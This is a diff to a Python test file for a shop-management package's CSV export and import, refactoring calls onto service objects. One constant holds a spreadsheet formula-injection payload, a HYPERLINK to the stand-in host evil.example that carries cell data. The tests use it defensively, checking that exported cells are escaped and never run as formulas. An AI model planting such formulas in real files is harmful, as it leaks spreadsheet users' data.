@@ -10,20 +10,26 @@ from datetime import timedelta
 import pandas as pd
 import pytest
 
-from crpm import demo, exporter, importer
+from crpm import demo
 from crpm.__main__ import main
 from crpm.analytics import Analytics
 from crpm.errors import PermissionDenied
 from crpm.permissions import Actor
 from crpm.services import open_services
-from tests.support import STAFF, assert_invariants
+from crpm.services.exporter import ExportService, export_frame
+from tests.support import SQLITE_ONLY, STAFF, assert_invariants, cli_demo_data
+
+
+@pytest.fixture
+def services(services_on_each_engine):
+    return services_on_each_engine
 
 
 def export_all(store, actor, folder) -> dict:
     paths = {}
     for kind in ("customers", "products", "purchases"):
         paths[kind] = folder / f"{kind}.csv"
-        exporter.export(store, actor, kind, paths[kind])
+        ExportService(store).export(actor, kind, paths[kind])
     return paths
 
 
@@ -55,6 +61,7 @@ def reports(store) -> dict:
         engine.close()
 
 
+@SQLITE_ONLY  # the analytics engine and the import read SQLite only
 @pytest.mark.any_day
 def test_round_trip_gives_the_same_reports_to_the_cent(services, actor, tmp_path, clock):
     demo.generate(services.store, customers=80, products=30, purchases=3000, seed=5)
@@ -78,7 +85,7 @@ def test_round_trip_gives_the_same_reports_to_the_cent(services, actor, tmp_path
     copy = open_services(tmp_path / "copy.db", clock)
     try:
         for kind in ("customers", "products", "purchases"):
-            report = importer.run(copy.store, actor, kind, paths[kind])
+            report = copy.imports.run(actor, kind, paths[kind])
             assert report.ok and report.written and not report.unknown_columns, report.text()
         assert_invariants(copy.store)
         before, after = reports(shop), reports(copy.store)
@@ -109,7 +116,7 @@ def test_purchases_export_has_one_row_per_line_with_customer_and_product(service
     sale = shop.sale(ada, (kettle, 2), (mug, 1))
     services.purchases.return_items(actor, sale.lines[0].id, 1)
     out = io.StringIO()
-    assert exporter.export(services.store, actor, "purchases", out) == 2
+    assert services.exports.export(actor, "purchases", out) == 2
     rows = list(csv.DictReader(io.StringIO(out.getvalue())))
     assert rows[0] == {
         **rows[0],
@@ -131,7 +138,7 @@ def test_purchases_export_has_one_row_per_line_with_customer_and_product(service
 def test_movements_tickets_and_frames(services, actor, tmp_path):
     demo.generate(services.store, customers=20, products=5, purchases=200, seed=2)
     path = tmp_path / "moves.csv"
-    count = exporter.export(services.store, actor, "movements", path)
+    count = services.exports.export(actor, "movements", path)
     rows = list(csv.DictReader(path.open()))
     assert count == len(rows) == services.store.query_one("SELECT count(*) FROM stock_movements")[0]
     assert {row["kind"] for row in rows} >= {"initial", "sale"}
@@ -140,9 +147,9 @@ def test_movements_tickets_and_frames(services, actor, tmp_path):
         == services.store.query_one("SELECT sum(stock) FROM products")[0]
     )
     tickets = io.StringIO()
-    assert exporter.export(services.store, actor, "tickets", tickets) >= 1
+    assert services.exports.export(actor, "tickets", tickets) >= 1
     frame = pd.DataFrame({"customer": ["A", "B"], "revenue_cents": [100, 250]})
-    assert exporter.export_frame(frame, tmp_path / "r.csv") == 2
+    assert export_frame(frame, tmp_path / "r.csv") == 2
     assert (tmp_path / "r.csv").read_text() == "customer,revenue_cents\nA,100\nB,250\n"
 
 
@@ -152,21 +159,21 @@ HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
 def test_exported_cells_never_run_as_spreadsheet_formulas(services, actor, shop, tmp_path):
     shop.customer(HOSTILE_NAME, email="eve@example.com", phone="+44 20 7946 0958")
     path = tmp_path / "customers.csv"
-    exporter.export(services.store, actor, "customers", path)
+    services.exports.export(actor, "customers", path)
     row = next(csv.DictReader(path.open()))
     assert row["name"] == "'" + HOSTILE_NAME
     assert row["phone"] == "'+44 20 7946 0958"
     frame = pd.DataFrame({"name": ["@SUM(A1)", "Ann"], "revenue": ["-15.00", "2.00"]})
-    exporter.export_frame(frame, tmp_path / "report.csv")
+    export_frame(frame, tmp_path / "report.csv")
     assert (tmp_path / "report.csv").read_text() == "name,revenue\n'@SUM(A1),-15.00\nAnn,2.00\n"
 
 
 def test_an_exported_hostile_cell_imports_as_it_was(services, actor, shop, tmp_path):
     shop.customer(HOSTILE_NAME, email="eve@example.com", phone="+44 20 7946 0958")
     path = tmp_path / "customers.csv"
-    exporter.export(services.store, actor, "customers", path)
+    services.exports.export(actor, "customers", path)
     other = open_services(tmp_path / "other.db")
-    assert importer.run(other.store, actor, "customers", path).ok
+    assert other.imports.run(actor, "customers", path).ok
     customer = other.customers.list(actor).items[0]
     assert (customer.name, customer.phone) == (HOSTILE_NAME, "+44 20 7946 0958")
     other.store.close()
@@ -174,28 +181,11 @@ def test_an_exported_hostile_cell_imports_as_it_was(services, actor, shop, tmp_p
 
 def test_export_is_refused_to_customers(services):
     with pytest.raises(PermissionDenied):
-        exporter.export(
-            services.store, Actor("c", "customer", customer_id=1), "customers", io.StringIO()
-        )
+        services.exports.export(Actor("c", "customer", customer_id=1), "customers", io.StringIO())
 
 
 def test_cli_export(db_path, tmp_path, capsys):
-    assert (
-        main(
-            [
-                "--db",
-                str(db_path),
-                "demo-data",
-                "--customers",
-                "5",
-                "--products",
-                "3",
-                "--purchases",
-                "20",
-            ]
-        )
-        == 0
-    )
+    assert cli_demo_data(db_path, customers=5, products=3, purchases=20) == 0
     target = tmp_path / "c.csv"
     assert main(["--db", str(db_path), "export", "customers", str(target)]) == 0
     assert "5 customers row(s)" in capsys.readouterr().out
